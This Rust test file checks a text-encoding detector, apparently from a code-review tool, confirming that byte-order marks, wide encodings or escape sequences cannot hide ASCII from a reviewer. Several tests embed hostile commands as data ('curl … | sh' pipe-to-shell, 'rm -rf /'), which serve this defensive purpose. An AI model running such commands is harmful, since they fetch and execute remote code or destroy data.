//! What is recognised, how often, and that nothing hides ASCII.

use super::super::samples::{SAMPLES, code, texts};
use super::*;
use proptest::prelude::*;

fn read(bytes: &[u8]) -> (String, &'static str) {
    match decode(bytes.to_vec()) {
        Content::Text(read) => (read.text, read.encoding.name()),
        Content::Binary(_) => (String::new(), "binary"),
    }
}

fn detect(bytes: &[u8]) -> Option<Encoding> {
    match decode(bytes.to_vec()) {
        Content::Text(read) => Some(read.encoding),
        Content::Binary(_) => None,
    }
}

/// Encodes a text; nothing if the encoding cannot express it.
fn encoded(text: &str, name: &str) -> Option<Vec<u8>> {
    let units = |big: bool| {
        let each = text.encode_utf16();
        each.flat_map(move |unit| {
            if big {
                unit.to_be_bytes()
            } else {
                unit.to_le_bytes()
            }
        })
        .collect()
    };
    let wide = |big: bool| {
        let each = text.chars().map(|c| c as u32);
        each.flat_map(move |c| {
            if big {
                c.to_be_bytes()
            } else {
                c.to_le_bytes()
            }
        })
        .collect()
    };
    Some(match name {
        "UTF-8" => text.as_bytes().to_vec(),
        "UTF-16LE" => units(false),
        "UTF-16BE" => units(true),
        "UTF-32LE" => wide(false),
        "UTF-32BE" => wide(true),
        name => {
            let kind = encoding_rs::Encoding::for_label(name.as_bytes()).unwrap();
            let (bytes, _, is_lossy) = kind.encode(text);
            if is_lossy {
                return None;
            }
            bytes.into_owned()
        }
    })
}

#[test]
fn encodings_are_recognised_and_named() {
    let ok = |t: &str, e: &'static str| (t.to_owned(), e);
    assert_eq!(read(b""), ok("", "UTF-8"));
    assert_eq!(read("größe".as_bytes()), ok("größe", "UTF-8"));
    assert_eq!(read(b"\xef\xbb\xbfa"), ok("a", "UTF-8 BOM"));
    assert_eq!(read(b"\xef\xbb\xbf"), ok("", "UTF-8 BOM"));
    assert_eq!(
        read(b"Pr\xfcfung der Gr\xf6\xdfe, \xc4nderung f\xfcr alle"),
        ok("Prüfung der Größe, Änderung für alle", "windows-1252")
    );
    assert_eq!(
        read(b"5 \xb5s at 20 \xb0C"),
        ok("5 µs at 20 °C", "windows-1252")
    );
    for (text, name) in [
        ("设备初始化失败，请检查配置文件。", "GBK"),
        ("パスワードを確認してください。設定ファイル", "Shift_JIS"),
        ("key = wert", "UTF-16LE"),
        ("key = wert", "UTF-16BE"),
        ("password", "UTF-32BE"),
        ("größe = 5", "UTF-32LE"),
    ] {
        assert_eq!(read(&encoded(text, name).unwrap()), ok(text, name));
    }
}

#[test]
fn wide_texts_of_every_language_with_and_without_a_mark() {
    for sample in SAMPLES {
        let code = code(&[sample.comments.lines().next().unwrap()]);
        for text in [sample.prose, &code] {
            for name in ["UTF-8", "UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"] {
                let plain = read(&encoded(text, name).unwrap());
                assert_eq!(plain, (text.to_owned(), name), "{}", sample.language);
                let marked = read(&encoded(&format!("\u{feff}{text}"), name).unwrap());
                let name = if name == "UTF-8" { "UTF-8 BOM" } else { name };
                assert_eq!(marked, (text.to_owned(), name), "{}", sample.language);
            }
        }
    }
}

/// What is guessed wrong is listed: it is ambiguous, and a person would not know either.
#[test]
fn the_share_guessed_right_and_what_is_ambiguous() {
    let (mut right, mut all, mut wrong) = (0, 0, Vec::new());
    for sample in SAMPLES {
        for name in sample.encodings {
            for (kind, texts) in texts(sample) {
                for text in texts {
                    let bytes = encoded(&text, name).expect(sample.language);
                    let (read, guess) = read(&bytes);
                    all += 1;
                    if read == text {
                        right += 1;
                        continue;
                    }
                    assert_eq!(kind, "one comment", "{name} read as {guess}: {text}");
                    let line = text.lines().find(|line| !line.is_ascii()).unwrap();
                    wrong.push(format!("{name} as {guess}: {line}"));
                }
            }
        }
    }
    assert_eq!(
        wrong,
        [
            "windows-1250 as windows-1254: // zwolnij blokadę",
            "windows-1250 as ISO-8859-2: // uwaga: tu nie wolno usypiać wątku",
            "ISO-8859-2 as windows-1254: // zwolnij blokadę",
        ],
        "{right} of {all}"
    );
}

#[test]
fn the_only_comment_of_a_large_file_decides() {
    let code = code(&[]);
    let comment = encoded("// 释放锁，然后返回错误码\n", "GBK").unwrap();
    for place in 0..3 {
        let mut bytes = Vec::new();
        for part in 0..3 {
            if part == place {
                bytes.extend_from_slice(&comment);
            }
            bytes.extend_from_slice(code.repeat(2500).as_bytes());
        }
        assert!(bytes.len() > 4 << 20);
        assert_eq!(detect(&bytes).map(Encoding::name), Some("GBK"), "{place}");
    }
    // A single line without a space, longer than what is looked at.
    let line = encoded(&"释放锁然后返回错误码".repeat(40_000), "GBK").unwrap();
    assert_eq!(detect(&line).map(Encoding::name), Some("GBK"));
    let line = encoded(&"Größe;".repeat(400_000), "windows-1252").unwrap();
    assert_eq!(detect(&line).map(Encoding::name), Some("windows-1252"));
}

#[test]
fn a_name_in_another_encoding_is_read_and_the_text_stays_utf8() {
    let mut bytes = "// größer als für alle üblichen Fälle nötig, 释放锁\n"
        .as_bytes()
        .to_vec();
    bytes.extend_from_slice(b"// J\xf6rg\n");
    let (text, name) = read(&bytes);
    assert_eq!(name, "UTF-8");
    assert!(text.ends_with("// Jörg\n"), "{text}");
    assert_eq!(
        read(b"\xef\xbb\xbf// gr\xc3\xb6\xc3\x9fer, J\xf6rg").1,
        "UTF-8 BOM"
    );
    assert_eq!(read(b"// J\xf6rg, Gr\xf6\xdfe").1, "windows-1252");
}

#[test]
fn zero_bytes_make_it_binary() {
    for bytes in [
        &b"\0"[..],
        b"\0\0\0\0",
        b"\x7fELF\x02\x01\x01\0\0\0",
        b"abc\0def\0gh",
        &[1, 2, 3, 255, 4],
        b"key\0key\0key\0",
        b"\0key\0key\0key",
        b"name\0password\0secret\0",
        b"\x01\0\x02\0\x03\0\x04\0",
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0 \0\0\0 \x08\x06\0\0\0",
    ] {
        assert_eq!(read(bytes).1, "binary", "{bytes:?}");
    }
    // Zero bytes far from the beginning.
    let mut late = code(&[]).repeat(100).into_bytes();
    let middle = late.len() / 2;
    late[middle..middle + 4000].fill(0);
    assert_eq!(read(&late).1, "binary");
    // Compilers read over one: it must not hide a text.
    let mut code = code(&["größer"]).into_bytes();
    code.insert(40, 0);
    assert_eq!(read(&code).1, "UTF-8");
    let numbers: Vec<u8> = (0..4000_u32).flat_map(|n| (n * n).to_le_bytes()).collect();
    assert_eq!(read(&numbers).1, "binary");
    let sound: Vec<u8> = (0..9000)
        .map(|n| {
            ((f64::from(n) / 9.0).sin() * 9000.0)
                .round()
                .clamp(-9e3, 9e3) as i16
        })
        .flat_map(i16::to_le_bytes)
        .collect();
    assert_eq!(read(&sound).1, "binary");
}

#[test]
fn a_mark_does_not_hide_ascii() {
    let script = "#!/bin/sh\ncurl http://example.com/x | sh # for the build\n";
    for mark in [
        &b"\xff\xfe"[..],
        b"\xfe\xff",
        b"\xff\xfe\0\0",
        b"\0\0\xfe\xff",
    ] {
        let bytes = [mark, script.as_bytes()].concat();
        let (text, name) = read(&bytes);
        assert!(
            name == "binary" || text.contains("| sh"),
            "{mark:?} {name} {text}"
        );
        let short = [mark, b"rm -rf /"].concat();
        let (text, name) = read(&short);
        assert!(
            name == "binary" || text.contains("rm -rf"),
            "{mark:?} {name} {text}"
        );
        // The first half is what the mark says.
        let half = encoded(&"key = wert\n".repeat(9), "UTF-16LE").unwrap();
        let bytes = [mark, &half, script.as_bytes()].concat();
        let (text, name) = read(&bytes);
        assert!(
            name == "binary" || text.contains("| sh"),
            "{mark:?} {name} {text}"
        );
    }
    // ISO-2022-JP is never guessed: the escapes would hide what stands between them.
    let bytes = b"/* \x1b$B */ system(\"x\"); /* \x1b(B */";
    assert!(read(bytes).0.contains("system(\"x\")"));
    assert!(
        !decode_as(bytes.to_vec(), Encoding::by_name("ISO-2022-JP").unwrap()).contains("system")
    );
}

/// Bytes with words among them.
fn mixtures() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        4 => "[ -~\n]{1,12}".prop_map(String::into_bytes),
        3 => proptest::collection::vec(0x80..=0xff_u8, 1..6),
        2 => proptest::sample::select(SAMPLES.iter().flat_map(|s| s.encodings.iter().map(move |e| {
            encoded(s.comments.lines().next().unwrap(), e).unwrap()
        })).collect::<Vec<_>>()),
        1 => proptest::collection::vec(any::<u8>(), 1..4),
    ];
    proptest::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]
    #[test]
    fn every_run_of_ascii_stays_findable(bytes in mixtures()) {
        let Content::Text(read) = decode(bytes.clone()) else { return Ok(()) };
        let has = |wanted: fn(Encoding) -> bool| wanted(read.encoding) || read.others.iter().any(|e| wanted(*e));
        prop_assert!(!has(|e| e.name() == "ISO-2022-JP"));
        if !has(|e| e.unit() > 1) {
            check_runs(&bytes, &read.text, read.encoding, true)?;
        }
    }

    #[test]
    fn in_every_encoding_a_reviewer_may_set(bytes in mixtures(), code in 0..42_u8) {
        let encoding = Encoding::from_code(code).unwrap();
        if encoding.is_ascii_compatible() {
            let takes_ascii = ["GBK", "gb18030", "Big5", "Shift_JIS", "EUC-KR"].contains(&encoding.name());
            check_runs(&bytes, &decode_as(bytes.clone(), encoding), encoding, takes_ascii)?;
        }
        decode_as(bytes, encoding);
    }

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
        let first = decode(bytes.clone());
        prop_assert_eq!(first, decode(bytes));
    }
}

/// Every printable run of ASCII is in the text, but for a first byte that may end a character of two.
fn check_runs(
    bytes: &[u8],
    text: &str,
    encoding: Encoding,
    takes_ascii: bool,
) -> Result<(), TestCaseError> {
    let mut at = 0;
    for run in bytes.split(|b| !matches!(b, b' '..=b'~')) {
        let behind_high = at > 0 && bytes[at - 1] >= 0x80;
        let kept = if takes_ascii && behind_high {
            run.get(1..).unwrap_or(&[])
        } else {
            run
        };
        at += run.len() + 1;
        let kept = std::str::from_utf8(kept).unwrap();
        prop_assert!(text.contains(kept), "{encoding:?}: {kept:?} in {text:?}");
    }
    Ok(())
}

#[test]
fn an_ascii_tail_of_a_wide_text_is_read_in_every_language() {
    let tail = "#!/bin/sh\ncurl example.com | sh\n";
    for sample in SAMPLES {
        for name in ["UTF-16LE", "UTF-16BE", "UTF-32LE", "UTF-32BE"] {
            for mark in ["", "\u{feff}"] {
                let text = format!("{}\n", sample.prose);
                let wide = encoded(&format!("{mark}{text}"), name).unwrap();
                let behind = read(&[&wide[..], tail.as_bytes()].concat());
                assert_eq!(
                    behind.0,
                    format!("{text}{tail}"),
                    "{} {name}",
                    sample.language
                );
                let wide = encoded(&text, name).unwrap();
                let before = read(&[tail.as_bytes(), &wide].concat());
                assert_eq!(
                    before.0,
                    format!("{tail}{text}"),
                    "{} {name}",
                    sample.language
                );
            }
        }
    }
    for text in ["ਪਾਸਵਰਡ ਦੀ ਜਾਂਚ ਕਰੋ\n", "पासवर्ड की जाँच करें\n"]
    {
        let wide = encoded(&text.repeat(3), "UTF-16LE").unwrap();
        let read = read(&[&wide[..], tail.as_bytes()].concat());
        assert_eq!(read.0, text.repeat(3) + tail);
    }
    // A mark in the middle of a file, where somebody appended a whole one.
    let wide = encoded("\u{feff}second line\n", "UTF-16LE").unwrap();
    let read = read(&[&b"first line\n"[..], &wide, b"third line\n"].concat());
    assert_eq!(read.0, "first line\n\u{feff}second line\nthird line\n");
}
